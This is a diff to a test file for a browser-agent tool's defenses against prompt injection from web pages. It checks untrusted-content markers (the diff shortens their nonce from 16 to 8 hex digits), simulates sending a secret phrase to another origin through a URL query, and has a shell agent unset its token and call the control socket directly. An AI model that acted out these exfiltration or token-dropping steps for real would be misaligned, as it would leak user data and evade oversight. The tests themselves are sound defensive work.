@@ -20,8 +20,8 @@ describe('a page that tells the agent what to do', () => {
   test('its words can not be carried to another site by address, whatever the conversation is allowed', async () => {
     const turn = await scene.ask('Summarize my inbox');
     const read = words(await turn.tool('text', {}));
-    const nonce = /BEGIN UNTRUSTED EXTERNAL CONTENT ([0-9a-f]{16})/.exec(read)[1];
-    assert.equal(read.split(`END UNTRUSTED EXTERNAL CONTENT ${nonce}`).length, 2, 'one end, and the page could not write it');
+    const nonce = /\[UNTRUSTED TEXT ([0-9a-f]{8})/.exec(read)[1];
+    assert.equal(read.split(`END UNTRUSTED TEXT ${nonce}`).length, 2, 'one end, and the page could not write it');
     const [{ conversationId }] = JSON.parse(await scene.home.ok(['audit', '-n', '1', '--json']));
     await scene.home.ok(['policy', 'allow', 'act', '--conversation', conversationId]);
     const going = turn.tool('goto', { url: `${other.origin}/?d=correct+horse+battery+staple+velvet+moon` });
@@ -256,7 +256,7 @@ describe('an agent that was given a shell', () => {
   test('reads its own tab by the command line, with the policy before what it does', async () => {
     const read = await gstack('text');
     assert.equal(read.code, 0, read.stderr);
-    assert.match(read.stdout, /UNTRUSTED EXTERNAL CONTENT [0-9a-f]{16}/);
+    assert.match(read.stdout, /UNTRUSTED TEXT [0-9a-f]{8}/);
     const clicking = gstack('click h1');
     const { approvals } = await until(async () => {
       const found = JSON.parse(await scene.home.ok(['approvals', '--json']));
@@ -299,7 +299,7 @@ describe('an agent that was given a shell', () => {
   test('is known without its token, detached from its parents, and past the command line', async () => {
     const bare = `env -u GSTACK_TOKEN '${GSTACK}'`;
     const text = await turn.shell(`${bare} text`);
-    assert.match(text.stdout, /UNTRUSTED EXTERNAL CONTENT [0-9a-f]{16}/, 'its own scope is given to it all the same');
+    assert.match(text.stdout, /UNTRUSTED TEXT [0-9a-f]{8}/, 'its own scope is given to it all the same');
     const socket = '"$GSTACK_HOME/http.sock"';
     const curl = `curl -s --unix-socket ${socket} -H 'content-type: application/json'`;
     for (const line of [
